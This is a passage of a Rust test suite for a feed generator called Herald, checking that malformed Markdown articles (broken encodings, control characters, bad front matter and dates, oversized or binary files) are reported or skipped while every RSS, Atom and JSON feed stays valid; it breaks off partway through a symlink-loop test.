//! Bad input: one test per kind of broken article. Each adds one bad file to a temporary copy
//! of the `mixed` fixture and checks that Herald keeps going, that every feed stays valid
//! XML that `feed-rs`, `rss` and `atom_syndication` read back, that the report for the file
//! names the problem, and that every other article is exactly what it is without the bad file.

use crate::support::*;
use herald::article::{Article, DateSource};
use herald::site::{FileReport, Outcome, Site};
use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;

// ---------------------------------------------------------------------------------------------
// Helpers

/// A cold build of `root` with the default test configuration plus `extra` TOML.
fn build_with(root: &Path, extra: &str) -> Site {
    let out = tempfile::tempdir().unwrap();
    Site::build(config_with(root, out.path(), extra)).unwrap()
}

const NO_GIT: &str = "[content]\ngit_dates = false\n";

/// What a feed says about each item, in feed order: `(id, title, link)`.
type Items = Vec<(String, String, String)>;

fn feed_items(bytes: &[u8]) -> Items {
    parse_feed(bytes)
        .entries
        .iter()
        .map(|e| {
            (
                e.id.clone(),
                e.title.as_ref().map(|t| t.content.clone()).unwrap_or_default(),
                e.links.first().map(|l| l.href.clone()).unwrap_or_default(),
            )
        })
        .collect()
}

/// Is `c` allowed in an XML 1.0 document?
fn is_xml_char(c: u32) -> bool {
    matches!(c, 0x9 | 0xA | 0xD | 0x20..=0xD7FF | 0xE000..=0xFFFD | 0x10000..=0x10FFFF)
}

/// Strict well-formedness: UTF-8, no forbidden character (also not as a character reference),
/// and quick-xml reads it to the end with matching end tags and valid escapes.
pub fn assert_well_formed(name: &str, bytes: &[u8]) {
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{name}: not UTF-8: {e}"));
    if let Some(c) = text.chars().find(|&c| !is_xml_char(c as u32)) {
        panic!("{name}: holds U+{:04X}, which XML 1.0 forbids", c as u32);
    }
    // Character references must name allowed characters too (`&#xD800;` is not well-formed).
    // CDATA sections hold literal text (`&#` there is not a reference): left out.
    let mut outside = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find("<![CDATA[") {
        outside.push_str(&rest[..start]);
        let end = rest[start..].find("]]>").unwrap_or_else(|| panic!("{name}: open CDATA"));
        rest = &rest[start + end + 3..];
    }
    outside.push_str(rest);
    let mut rest = outside.as_str();
    while let Some(i) = rest.find("&#") {
        let after = &rest[i + 2..];
        let end = after.find(';').unwrap_or_else(|| panic!("{name}: unterminated char ref"));
        let (digits, radix) = match after.strip_prefix(['x', 'X']) {
            Some(hex) => (&hex[..end - 1], 16),
            None => (&after[..end], 10),
        };
        let value = u32::from_str_radix(digits, radix)
            .unwrap_or_else(|e| panic!("{name}: bad char ref &#{}: {e}", &after[..end]));
        assert!(is_xml_char(value), "{name}: char ref &#{}; names a forbidden char", &after[..end]);
        rest = &after[end..];
    }
    let mut reader = quick_xml::Reader::from_str(text);
    reader.config_mut().check_end_names = true;
    let mut depth = 0i64;
    let mut roots = 0;
    loop {
        match reader.read_event() {
            Ok(quick_xml::events::Event::Eof) => break,
            Ok(quick_xml::events::Event::Start(_)) => {
                if depth == 0 {
                    roots += 1;
                }
                depth += 1;
            }
            Ok(quick_xml::events::Event::End(_)) => depth -= 1,
            Ok(quick_xml::events::Event::Empty(_)) if depth == 0 => roots += 1,
            Ok(quick_xml::events::Event::GeneralRef(r)) => {
                let n = r.into_inner();
                assert!(
                    matches!(n.as_ref(), "amp" | "lt" | "gt" | "quot" | "apos")
                        || n.starts_with('#'),
                    "{name}: undeclared entity &{n};"
                );
            }
            Ok(_) => {}
            Err(e) => panic!("{name}: not well-formed at {}: {e}", reader.error_position()),
        }
    }
    assert_eq!(depth, 0, "{name}: unclosed elements");
    assert_eq!(roots, 1, "{name}: one root element");
}

/// Every feed of `site` is well-formed and read back by all three feed parsers, with the same
/// number of items.
pub fn assert_feeds_valid(site: &Site) {
    assert!(site.feeds().contains_key("all.rss") && site.feeds().contains_key("all.atom"));
    for (name, doc) in site.feeds() {
        let bytes = &doc.identity().bytes;
        if name.ends_with(".json") {
            // JSON Feed: valid JSON that feed-rs reads, the same items as the Atom feed.
            serde_json::from_slice::<serde_json::Value>(bytes)
                .unwrap_or_else(|e| panic!("{name}: not valid JSON: {e}"));
            let atom = name.replace(".json", ".atom");
            let atom_items =
                site.feeds().get(&atom).map(|d| parse_feed(&d.identity().bytes).entries.len());
            assert_eq!(
                Some(parse_feed(bytes).entries.len()),
                atom_items,
                "{name}: items of {atom}"
            );
            continue;
        }
        assert_well_formed(name, bytes);
        if name.ends_with(".opml") {
            continue;
        }
        let by_feed_rs = parse_feed(bytes).entries.len();
        let by_crate = if name.ends_with(".rss") {
            rss::Channel::read_from(&bytes[..])
                .unwrap_or_else(|e| panic!("{name}: the rss crate cannot read it: {e}"))
                .items()
                .len()
        } else {
            atom_syndication::Feed::read_from(&bytes[..])
                .unwrap_or_else(|e| panic!("{name}: atom_syndication cannot read it: {e}"))
                .entries()
                .len()
        };
        assert_eq!(by_feed_rs, by_crate, "{name}: feed-rs and the format crate disagree");
    }
}

/// The fixture built without any bad file: articles by path and feed items by feed name.
struct Baseline {
    articles: BTreeMap<String, Arc<Article>>,
    feeds: BTreeMap<String, Items>,
}

fn baseline(extra: &str) -> Baseline {
    let dir = copy_fixture("mixed");
    let site = build_with(dir.path(), extra);
    assert_feeds_valid(&site);
    Baseline {
        articles: site.index().articles().map(|a| (a.path.clone(), a.clone())).collect(),
        feeds: site
            .feeds()
            .iter()
            // Live feeds only: the OPML list has no items, and archive pages shift when an
            // article (even a bad one that is kept) is added.
            .filter(|(name, _)| !name.contains('/') && !name.ends_with(".opml"))
            .map(|(name, doc)| (name.clone(), feed_items(&doc.identity().bytes)))
            .collect(),
    }
}

/// Every article of the baseline is in `site` unchanged, and every feed of the baseline holds
/// the same items in the same order once the items of the `bad` paths are left out.
fn assert_others_unaffected(base: &Baseline, site: &Site, bad: &[&str]) {
    let bad_links: Vec<String> = bad
        .iter()
        .map(|p| format!("https://feeds.example.org/articles/{}", herald::site::encode_path(p)))
        .collect();
    for (path, article) in &base.articles {
        let now = site
            .index()
            .articles()
            .find(|a| &a.path == path)
            .unwrap_or_else(|| panic!("{path} vanished"));
        assert_eq!(**now, **article, "{path} changed");
    }
    for (name, items) in &base.feeds {
        let doc = site.feeds().get(name).unwrap_or_else(|| panic!("feed {name} vanished"));
        let now: Items = feed_items(&doc.identity().bytes)
            .into_iter()
            .filter(|(_, _, link)| !bad_links.contains(link))
            .collect();
        assert_eq!(&now, items, "{name}: the other articles' items changed");
    }
}

/// A temporary copy of `mixed` with `files` (relative path, bytes) written into it.
fn fixture_with(files: &[(&str, &[u8])]) -> tempfile::TempDir {
    let dir = copy_fixture("mixed");
    for (rel, bytes) in files {
        let path = dir.path().join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, bytes).unwrap();
        set_mtime(&path, FIXED_MTIME + 1000);
    }
    dir
}

/// The whole scenario for one bad file: build, validate, compare; returns the content folder
/// (article pages re-read it), the site and the file's report.
fn check_one(rel: &str, bytes: &[u8]) -> (tempfile::TempDir, Site, FileReport) {
    check_one_with(rel, bytes, NO_GIT)
}

fn check_one_with(rel: &str, bytes: &[u8], extra: &str) -> (tempfile::TempDir, Site, FileReport) {
    let base = baseline(extra);
    let dir = fixture_with(&[(rel, bytes)]);
    let site = build_with(dir.path(), extra);
    assert_feeds_valid(&site);
    assert_others_unaffected(&base, &site, &[rel]);
    let report = site
        .reports()
        .get(rel)
        .unwrap_or_else(|| panic!("no report for {rel}: {:?}", site.reports().keys()))
        .clone();
    // The report `herald check` prints holds the same lines.
    let check = herald::check::Report::from_site(&site);
    for w in &report.warnings {
        assert!(check.problems.contains(&(rel.to_string(), w.clone())), "{w} not in the check");
    }
    (dir, site, report)
}

fn article<'a>(site: &'a Site, rel: &str) -> &'a Arc<Article> {
    site.index()
        .articles()
        .find(|a| a.path == rel)
        .unwrap_or_else(|| panic!("{rel} is not an article; report: {:?}", site.reports().get(rel)))
}

/// The report is an article whose warnings mention every one of `words`.
fn assert_warns(report: &FileReport, words: &[&str]) {
    assert_eq!(report.outcome, Outcome::Article, "{report:?}");
    let all = report.warnings.join("\n");
    for w in words {
        assert!(all.contains(w), "warnings do not mention {w:?}: {all}");
    }
}

/// The report is a skip whose reason mentions `word`.
fn assert_skipped(report: &FileReport, word: &str) {
    match &report.outcome {
        Outcome::Skipped(reason) => assert!(reason.contains(word), "{reason:?} lacks {word:?}"),
        other => panic!("not skipped but {other:?}: {report:?}"),
    }
}

/// Title of the feed item of `rel` in `all.rss` and `all.atom`, via feed-rs, both equal.
fn feed_title(site: &Site, rel: &str) -> String {
    let link = format!("https://feeds.example.org/articles/{}", herald::site::encode_path(rel));
    let mut titles = Vec::new();
    for name in ["all.rss", "all.atom"] {
        let items = feed_items(&site.feeds()[name].identity().bytes);
        let (_, title, _) = items
            .into_iter()
            .find(|(_, _, l)| *l == link)
            .unwrap_or_else(|| panic!("{rel} not in {name}"));
        titles.push(title);
    }
    assert_eq!(titles[0], titles[1], "RSS and Atom disagree on the title");
    titles.remove(0)
}

/// The content (HTML) of the feed item of `rel`: RSS `content:encoded` and Atom `content`.
fn feed_contents(site: &Site, rel: &str) -> Vec<String> {
    let link = format!("https://feeds.example.org/articles/{}", herald::site::encode_path(rel));
    let rss = rss::Channel::read_from(&site.feeds()["all.rss"].identity().bytes[..]).unwrap();
    let item = rss.items().iter().find(|i| i.link() == Some(&link)).expect("item in all.rss");
    let atom =
        atom_syndication::Feed::read_from(&site.feeds()["all.atom"].identity().bytes[..]).unwrap();
    let entry =
        atom.entries().iter().find(|e| e.links()[0].href() == link).expect("entry in all.atom");
    vec![
        item.content().expect("content:encoded").to_string(),
        item.description().unwrap_or_default().to_string(),
        entry.content().and_then(|c| c.value()).expect("atom content").to_string(),
        entry.summary().map(|s| s.value.clone()).unwrap_or_default(),
    ]
}

// ---------------------------------------------------------------------------------------------
// Encodings and characters

#[test]
fn invalid_utf8_a_multibyte_char_cut_in_half() {
    let mut bytes = "## 半个字符\n` Broken Bytes`\n\n前面的文字".as_bytes().to_vec();
    let cut = "字".as_bytes();
    bytes.extend_from_slice(&cut[..2]); // first two of three bytes
    bytes.extend_from_slice("后面的文字。\n".as_bytes());
    let (_dir, site, report) = check_one("posts/cut.md", &bytes);
    assert_warns(&report, &["invalid UTF-8", "U+FFFD"]);
    assert_eq!(feed_title(&site, "posts/cut.md"), "半个字符");
    let a = article(&site, "posts/cut.md");
    assert_eq!(a.categories, ["Broken Bytes"]);
    assert!(a.summary.contains("前面的文字\u{FFFD}后面的文字"), "{}", a.summary);
}

fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
    let mut out = if big_endian { vec![0xFE, 0xFF] } else { vec![0xFF, 0xFE] };
    for u in text.encode_utf16() {
        out.extend_from_slice(&if big_endian { u.to_be_bytes() } else { u.to_le_bytes() });
    }
    out
}

#[test]
fn utf16_le_and_be_with_bom_are_decoded() {
    let text = "---\ntitle: \"双字节 UTF-16 😀\"\ndate: 2024-05-06\ncategory: Wide Chars\n---\n\n正文 body.\n";
    for (rel, be, name) in
        [("posts/utf16le.md", false, "UTF-16LE"), ("posts/utf16be.md", true, "UTF-16BE")]
    {
        let (_dir, site, report) = check_one(rel, &utf16(text, be));
        assert_warns(&report, &[name]);
        assert_eq!(feed_title(&site, rel), "双字节 UTF-16 😀");
        let a = article(&site, rel);
        assert_eq!(a.categories, ["Wide Chars"]);
        assert_eq!(a.published.unwrap().at.to_rfc3339(), "2024-05-06T00:00:00+00:00");
        assert_eq!(a.summary, "正文 body.");
    }
}

#[test]
fn utf16_with_an_odd_byte_and_a_lone_surrogate_is_repaired() {
    let mut bytes = utf16("## Odd \u{1F600} one\n\nText", false);
    // Replace the high surrogate of the emoji's pair's low half by a lone high surrogate.
    let pos = bytes.windows(2).position(|w| w == [0x00, 0xDE]).unwrap();
    bytes[pos] = 0x3D;
    bytes[pos + 1] = 0xD8; // 0xD83D again: two high surrogates in a row
    bytes.push(0x41); // odd trailing byte
    let (_dir, site, report) = check_one("posts/odd16.md", &bytes);
    assert_warns(&report, &["UTF-16LE", "unpaired surrogate", "odd byte"]);
    assert!(feed_title(&site, "posts/odd16.md").starts_with("Odd"));
}

#[test]
fn utf8_bom_is_ignored_and_front_matter_still_found() {
    let bytes = "\u{FEFF}---\ntitle: With a BOM\ncategory: Marks\ndate: 2024-02-02\n---\n\nText after a BOM.\n";
    let (_dir, site, report) = check_one("posts/bom.md", bytes.as_bytes());
    assert_eq!(report.outcome, Outcome::Article);
    assert!(report.warnings.is_empty(), "{:?}", report.warnings);
    assert_eq!(feed_title(&site, "posts/bom.md"), "With a BOM");
    assert_eq!(article(&site, "posts/bom.md").categories, ["Marks"]);
}

#[test]
fn crlf_line_ends_everywhere() {
    let text = "---\r\ntitle: Windows line ends\r\ndate: 2024-02-03T10:00:00Z\r\ncategory: Line Ends\r\n---\r\n\r\nFirst line\r\nsecond line.\r\n\r\nMore.\r\n";
    let (_dir, site, report) = check_one("posts/crlf.md", text.as_bytes());
    assert_eq!(report.outcome, Outcome::Article);
    assert_eq!(feed_title(&site, "posts/crlf.md"), "Windows line ends");
    let a = article(&site, "posts/crlf.md");
    assert_eq!(a.categories, ["Line Ends"]);
    assert_eq!(a.summary, "First line second line.");
    for c in feed_contents(&site, "posts/crlf.md") {
        assert!(!c.contains('\r'), "{c:?}");
    }
    // The archive format with CRLF: navigation header, title, tag line.
    let archive = "###  [:house:返回](README.md)\r\n---\r\n\r\n## 回车换行\r\n` 山谷观察组` [轉載自GNews](https://news.example.net/crlf/1)\r\n\r\n正文。\r\n";
    let (_dir, site, _) = check_one("reports/crlf.md", archive.as_bytes());
    let a = article(&site, "reports/crlf.md");
    assert_eq!(a.title, "回车换行");
    assert_eq!(a.categories, ["山谷观察组"]);
    assert_eq!(a.source.as_deref(), Some("https://news.example.net/crlf/1"));
}

#[test]
fn lone_cr_line_ends() {
    let text = "## Old Mac line ends\r` Line Ends`\r\rThe text.\r";
    let (_dir, site, _) = check_one("posts/cr.md", text.as_bytes());
    let a = article(&site, "posts/cr.md");
    assert_eq!(a.title, "Old Mac line ends");
    assert_eq!(a.categories, ["Line Ends"]);
}

#[test]
fn nul_bytes_in_text_are_removed_and_reported() {
    // A few NULs in a text: removed, reported, the article kept.
    let filler = "Plain words around the stray bytes. ".repeat(20);
    let text =
        format!("## Nul\0 in the title\n` Controls`\n\nSome\0 text\0 with NULs.\n\n{filler}\n");
    let (_dir, site, report) = check_one("posts/nul.md", text.as_bytes());
    assert_warns(&report, &["control character", "U+0000"]);
    assert_eq!(feed_title(&site, "posts/nul.md"), "Nul in the title");
    assert_eq!(article(&site, "posts/nul.md").summary, "Some text with NULs.");
    // As many NULs as a binary file has (1 in 100 bytes or more): skipped as binary.
    let dense = "## Nul\0 dense\0\n\nShort\0 text.\n";
    let (_dir, _, report) = check_one("posts/nul-dense.md", dense.as_bytes());
    assert_skipped(&report, "NUL bytes");
}

#[test]
fn characters_xml_forbids_never_reach_a_feed() {
    let mut raw = String::from("---\ntitle: \"Bell\\a and \\x1b escape \\x0c form feed\"\ncategory: \"Ctl\\x01 Chars\"\n---\n\n");
    for c in (0u8..0x20).filter(|c| !matches!(c, b'\t' | b'\n' | b'\r')) {
        raw.push_str(&format!("c{c:02x}:{} ", c as char));
    }
    raw.push_str("\u{FFFE}\u{FFFF} end.\n\n");
    raw.push_str("## Heading with \u{1}\u{1f} controls\n\n");
    raw.push_str(
        "<p title=\"a\u{8}b\">raw \u{b} html</p>\n\n<img src=\"https://img.example.org/a\u{1}.png\" alt=\"x\u{2}y\">\n",
    );
    let (_dir, site, report) = check_one("posts/controls.md", raw.as_bytes());
    assert_warns(&report, &["control character"]);
    let a = article(&site, "posts/controls.md");
    assert!(a.title.chars().all(|c| is_xml_char(c as u32)), "{:?}", a.title);
    for c in feed_contents(&site, "posts/controls.md") {
        assert!(c.chars().all(|ch| is_xml_char(ch as u32)), "{c:?}");
    }
}

#[test]
fn character_references_to_forbidden_characters() {
    // Lone surrogates, NUL, controls and non-characters written as references in Markdown
    // text, in a heading, in raw HTML text and in attributes.
    let refs = [
        "&#xD800;",
        "&#xDFFF;",
        "&#55296;",
        "&#0;",
        "&#x0;",
        "&#x1;",
        "&#1;",
        "&#x1F;",
        "&#31;",
        "&#xFFFE;",
        "&#xFFFF;",
        "&#x110000;",
        "&#1114112;",
        "&#x8;",
        "&#xB;",
        "&#xC;",
    ];
    let all = refs.join(" ");
    let md = format!(
        "## Refs {all} title\n` Char Refs`\n\nText {all} here.\n\n<p>Raw {all} HTML</p>\n\n<a href=\"https://example.org/{}\" title=\"{all}\">link</a>\n\n`code {all}`\n\n[md link](https://example.org/&#xD800;)\n",
        refs[0]
    );
    let (_dir, site, report) = check_one("posts/refs.md", md.as_bytes());
    assert_eq!(report.outcome, Outcome::Article);
    let title = feed_title(&site, "posts/refs.md");
    assert!(title.starts_with("Refs") && title.ends_with("title"), "{title:?}");
    assert!(title.chars().all(|c| is_xml_char(c as u32)), "{title:?}");
    for c in feed_contents(&site, "posts/refs.md") {
        assert!(c.chars().all(|ch| is_xml_char(ch as u32)), "{c:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// Empty and degenerate files

#[test]
fn empty_file_is_skipped() {
    let (_dir, _, report) = check_one("posts/empty.md", b"");
    assert_skipped(&report, "empty");
}

#[test]
fn whitespace_only_file_is_skipped() {
    let (_dir, _, report) = check_one("posts/blank.md", b" \n\t\r\n  \n");
    assert_skipped(&report, "whitespace");
}

#[test]
fn only_a_navigation_header_is_skipped() {
    for text in [
        "###  [:house:返回首頁](../README.md)\n---\n",
        "###  [:house:返回首頁](../README.md)\n---\n\n\n   \n",
        "###  [:house:返回首頁](../README.md)\n",
    ] {
        let (_dir, _, report) = check_one("posts/nav-only.md", text.as_bytes());
        assert_skipped(&report, "navigation header");
    }
}

#[test]
fn an_empty_title_heading() {
    // With text: the first words become the title.
    let (_dir, site, report) = check_one(
        "posts/untitled.md",
        "## \n` Empty Titles`\n\nThe text gives the title.\n".as_bytes(),
    );
    assert_warns(&report, &["empty title"]);
    assert_eq!(feed_title(&site, "posts/untitled.md"), "The text gives the title.");
    // Without text: nothing to show.
    for text in ["## ", "## \n", "##\n\n", "## \n` Empty Titles`\n", "# #\n"] {
        let (_dir, _, report) = check_one("posts/untitled.md", text.as_bytes());
        assert!(matches!(report.outcome, Outcome::Skipped(_)), "{text:?}: {report:?}");
    }
}

#[test]
fn a_ten_thousand_character_title_is_cut() {
    let long: String = "长".repeat(5000) + &"x".repeat(5000);
    let (_dir, site, report) =
        check_one("posts/long-title.md", format!("## {long}\n\nBody.\n").as_bytes());
    assert_warns(&report, &["title is 10000 characters", "cut it to 300"]);
    let title = feed_title(&site, "posts/long-title.md");
    assert_eq!(title.chars().count(), 300);
    assert!(title.ends_with('…'));
    // The same in front matter.
    let (_dir, site, report) = check_one(
        "posts/long-title.md",
        format!("---\ntitle: \"{long}\"\n---\n\nBody.\n").as_bytes(),
    );
    assert_warns(&report, &["title is 10000 characters"]);
    assert_eq!(feed_title(&site, "posts/long-title.md").chars().count(), 300);
}

#[test]
fn a_title_full_of_markup_characters_round_trips() {
    let nasty =
        "<b>&amp; ]]> ]]]]><![CDATA[ \"double\" 'single' <!-- x --> &#x26; 😀🏳️‍🌈 &lt;/title&gt;";
    let yaml = nasty.replace('\\', "\\\\").replace('"', "\\\"");
    let text = format!("---\ntitle: \"{yaml}\"\ncategory: \"<Cat> & ]]>\"\n---\n\nBody.\n");
    let (_dir, site, report) = check_one("posts/nasty-title.md", text.as_bytes());
    assert_eq!(report.outcome, Outcome::Article, "{report:?}");
    assert_eq!(feed_title(&site, "posts/nasty-title.md"), nasty);
    let rss = rss::Channel::read_from(&site.feeds()["all.rss"].identity().bytes[..]).unwrap();
    let item = rss.items().iter().find(|i| i.title() == Some(nasty)).unwrap();
    assert!(item.categories().iter().any(|c| c.name() == "<Cat> & ]]>"));
    // The category gets a feed of its own, valid too (checked by check_one), with a safe slug.
    assert!(
        site.feeds().keys().all(|k| !k.contains(['<', '>', '&', '"', '/'])),
        "{:?}",
        site.feeds().keys().collect::<Vec<_>>()
    );
    // As a heading, the same characters are Markdown: HTML is dropped, the rest is text.
    let (_dir, site, _) = check_one(
        "posts/nasty-heading.md",
        "## A ]]> & \"b\" 'c' <script>x</script> 😀 &lt;tag&gt;\n\nBody.\n".as_bytes(),
    );
    let title = feed_title(&site, "posts/nasty-heading.md");
    assert!(title.contains("]]> & \"b\" 'c'") && title.contains("😀 <tag>"), "{title:?}");
    assert!(!title.contains("<script"), "{title:?}");
}

// ---------------------------------------------------------------------------------------------
// Front matter and dates

#[test]
fn unterminated_front_matter() {
    for (text, fence) in [
        ("---\ntitle: Never closed\ncategory: Fences\n\nThe text.\n", "---"),
        ("+++\ntitle = \"Never closed\"\n\nThe text.\n", "+++"),
    ] {
        let (_dir, _, report) = check_one("posts/open-fence.md", text.as_bytes());
        assert!(
            report.warnings.iter().any(|w| w.contains(fence) && w.contains("never closed")),
            "{report:?}"
        );
    }
}

#[test]
fn front_matter_that_is_not_yaml_or_toml() {
    let (_dir, site, report) = check_one(
        "posts/bad-yaml.md",
        b"---\ntitle: [unclosed\n  : : :\n---\n\n## Heading wins\n\nText.\n",
    );
    assert_warns(&report, &["not valid YAML"]);
    assert_eq!(feed_title(&site, "posts/bad-yaml.md"), "Heading wins");
    let (_dir, _, report) =
        check_one("posts/bad-toml.md", b"+++\ntitle = \nx = [\n+++\n\n## Heading\n\nText.\n");
    assert_warns(&report, &["not valid TOML"]);
}

#[test]
fn front_matter_with_wrong_types() {
    let text = "---\ntitle: [1, 2]\ndate: true\nupdated: {a: 1}\ncategories: {a: 1}\ntags: {x: y}\ndraft: \"maybe\"\nid: [a]\nsource: 7\nauthor: 3.5\n---\n\n## Typed wrong\n\nText.\n";
    let (_dir, site, report) = check_one("posts/types.md", text.as_bytes());
    assert_eq!(report.outcome, Outcome::Article, "{report:?}");
    let all = report.warnings.join("\n");
    for key in ["`date`", "`updated`", "`title`", "`categories`", "`draft`"] {
        assert!(all.contains(key), "no warning about {key}: {all}");
    }
    let a = article(&site, "posts/types.md");
    assert_eq!(a.title, "Typed wrong");
    assert!(!a.draft);
    assert_eq!(a.categories, ["posts"], "falls back to the folder");
}

#[test]
fn impossible_and_out_of_range_dates() {
    for (date, words) in [
        ("2021-13-45", &["`date`", "not a date", "2021-13-45"][..]),
        ("2021-02-30", &["not a date"][..]),
        ("1969-12-31", &["outside the years 1970–9999"][..]),
        ("0001-01-01T00:00:00Z", &["outside the years 1970–9999"][..]),
        ("\"10000-01-01\"", &["not a date"][..]),
        ("\"+10000-01-01T00:00:00Z\"", &["`date`"][..]),
        ("\"99999999999-01-01\"", &["`date`"][..]),
        ("yesterday", &["not a date"][..]),
        ("2024-03-01T25:61:00Z", &["not a date"][..]),
    ] {
        let text =
            format!("---\ntitle: Bad date {date}\ndate: {date}\nupdated: {date}\n---\n\nText.\n");
        let (_dir, site, report) = check_one("posts/bad-date.md", text.as_bytes());
        assert_warns(&report, words);
        let a = article(&site, "posts/bad-date.md");
        assert_ne!(a.published.map(|d| d.source), Some(DateSource::FrontMatter), "{date}");
        assert_eq!(a.published.unwrap().source, DateSource::Mtime, "{date}");
    }
    // File names that look dated but are not: reported, the date left to the mtime.
    let (_dir, _, report) =
        check_one("posts/2024-02-30-impossible.md", b"## Impossible file date\n\nText.\n");
    assert_warns(&report, &["file name", "not a calendar date"]);
    let (_dir, _, report) = check_one("posts/19650101-old.md", b"## Too old\n\nText.\n");
    assert_warns(&report, &["before 1970"]);
}

#[test]
fn dates_in_every_archive_form() {
    let cases: &[(&str, &str, &str, DateSource)] = &[
        (
            "reports/2024/04/2600001.md",
            "## 带日期的标签行\n`4/2/2024 3:57 PM UTC 山谷观察组` [轉載自GNews](https://news.example.net/articles/2600001)\n\n正文。\n",
            "2024-04-02T15:57:00+00:00",
            DateSource::TagLine,
        ),
        (
            "reports/2024/04/2600002.md",
            "## 午夜\n`12/31/2023 12:05 AM UTC 山谷观察组` [轉載自GNews](https://news.example.net/articles/2600002)\n\n正文。\n",
            "2023-12-31T00:05:00+00:00",
            DateSource::TagLine,
        ),
        (
            "talks/2019/06/20190615-70000003.md",
            "## 某人2019年6月15日视频\n[轉載自GNews](https://news.example.net/ThreadView/0)\n\n正文。\n",
            "2019-06-15T00:00:00+00:00",
            DateSource::FileName,
        ),
        (
            "posts/2024-03-01-title.md",
            "## Dated by its name\n\nText.\n",
            "2024-03-01T00:00:00+00:00",
            DateSource::FileName,
        ),
        (
            "posts/offset-plus.md",
            "---\ntitle: Offset plus\ndate: 2024-03-01T10:00:00+05:30\n---\n\nText.\n",
            "2024-03-01T04:30:00+00:00",
            DateSource::FrontMatter,
        ),
        (
            "posts/offset-minus.md",
            "---\ntitle: Offset minus\ndate: 2024-03-01 22:15:00 -0800\n---\n\nText.\n",
            "2024-03-02T06:15:00+00:00",
            DateSource::FrontMatter,
        ),
        (
            "posts/offset-z.md",
            "+++\ntitle = \"TOML datetime\"\ndate = 2024-03-01T23:59:59+14:00\n+++\n\nText.\n",
            "2024-03-01T09:59:59+00:00",
            DateSource::FrontMatter,
        ),
        (
            "posts/zone-name.md",
            "---\ntitle: Named zone\ndate: \"2024-03-01 08:00 UTC\"\n---\n\nText.\n",
            "2024-03-01T08:00:00+00:00",
            DateSource::FrontMatter,
        ),
    ];
    for (rel, text, want, source) in cases {
        let (_dir, site, report) = check_one(rel, text.as_bytes());
        assert_eq!(report.outcome, Outcome::Article, "{rel}: {report:?}");
        let a = article(&site, rel);
        let got = a.published.unwrap();
        assert_eq!((got.at.to_rfc3339(), got.source), (want.to_string(), *source), "{rel}");
        assert_eq!(report.date_sources.unwrap().0, source.as_str(), "{rel}");
        // Both feeds carry that date.
        let link = format!("https://feeds.example.org/articles/{}", herald::site::encode_path(rel));
        for name in ["all.rss", "all.atom"] {
            let feed = parse_feed(&site.feeds()[name].identity().bytes);
            let e = feed.entries.iter().find(|e| e.links[0].href == link).unwrap();
            assert_eq!(e.published.unwrap().to_rfc3339(), *want, "{rel} in {name}");
        }
    }
    // A tag line date that is not a date is reported and the next rule applies.
    let (_dir, site, report) = check_one(
        "reports/2024/04/2600003.md",
        "## 坏日期\n`13/45/2024 3:57 PM UTC 山谷观察组` [轉載自GNews](https://news.example.net/articles/2600003)\n\n正文。\n".as_bytes(),
    );
    assert_warns(&report, &["tag line", "not a date"]);
    assert_eq!(
        article(&site, "reports/2024/04/2600003.md").published.unwrap().source,
        DateSource::Mtime
    );
}

// ---------------------------------------------------------------------------------------------
// Files Herald must not read (whole)

#[test]
fn a_file_over_max_file_bytes_is_skipped() {
    let extra = "[content]\ngit_dates = false\nmax_file_bytes = 1000\n";
    let big = format!("## Too big\n\n{}\n", "word ".repeat(400));
    let (_dir, _, report) = check_one_with("posts/big.md", big.as_bytes(), extra);
    assert_skipped(&report, "over the 1000-byte limit");
    // Exactly at the cap is fine.
    let mut fits = b"## Just fits\n\n".to_vec();
    fits.resize(1000, b'a');
    let (_dir, site, report) = check_one_with("posts/fits.md", &fits, extra);
    assert_eq!(report.outcome, Outcome::Article);
    assert_eq!(feed_title(&site, "posts/fits.md"), "Just fits");
}

#[test]
fn a_huge_sparse_file_is_skipped_without_being_read() {
    // 64 GiB of holes: reading it whole would take minutes and all memory.
    let base = baseline(NO_GIT);
    let dir = copy_fixture("mixed");
    let path = dir.path().join("posts/huge.md");
    let file = std::fs::File::create(&path).unwrap();
    file.set_len(64 << 30).unwrap();
    drop(file);
    // The size is checked on the metadata before any read: the report names the limit (a read
    // would have run out of memory or taken minutes instead).
    let site = build_with(dir.path(), NO_GIT);
    assert_skipped(&site.reports()["posts/huge.md"], "over the 8388608-byte limit");
    assert_feeds_valid(&site);
    assert_others_unaffected(&base, &site, &["posts/huge.md"]);
}

#[test]
fn binary_files_named_md_are_skipped() {
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    png.extend((0..3000u32).map(|i| (i.wrapping_mul(2654435761) >> 13) as u8));
    let (_dir, _, report) = check_one("posts/picture.md", &png);
    assert_skipped(&report, "looks binary");
    let noise: Vec<u8> = (0..5000u32).map(|i| (i.wrapping_mul(2654435761) >> 7) as u8).collect();
    let (_dir, _, report) = check_one("posts/noise.md", &noise);
    assert_skipped(&report, "looks binary");
    let mut elf = b"\x7FELF\x02\x01\x01".to_vec();
    elf.extend(std::iter::repeat_n(0u8, 500));
    let (_dir, _, report) = check_one("posts/program.md", &elf);
    assert_skipped(&report, "looks binary");
}

#[cfg(unix)]
#[test]
fn a_file_without_read_permission() {
    use std::os::unix::fs::PermissionsExt;
    let base = baseline(NO_GIT);
    let dir = fixture_with(&[("posts/locked.md", b"## Locked\n\nSecret text.\n")]);
    let path = dir.path().join("posts/locked.md");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o000)).unwrap();
    let readable_anyway = std::fs::File::open(&path).is_ok();
    let site = build_with(dir.path(), NO_GIT);
    assert_feeds_valid(&site);
    assert_others_unaffected(&base, &site, &["posts/locked.md"]);
    if readable_anyway {
        eprintln!(
            "a_file_without_read_permission: running with privileges that ignore mode 000 \
             (root?); the file was read, so the 'cannot read' report is not checked"
        );
    } else {
        assert_skipped(&site.reports()["posts/locked.md"], "cannot read");
        assert!(!site.index().articles().any(|a| a.path == "posts/locked.md"));
    }
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
}

#[cfg(unix)]
#[test]
fn symlink_loops_end() {
    use std::os::unix::fs::symlink;
    for follow in [false, true] {
        let extra = format!("[content]\ngit_dates = false\nfollow_symlinks = {follow}\n");
        let base = baseline(&extra);
        let dir = copy_fixture("mixed");
        let root = dir.path();
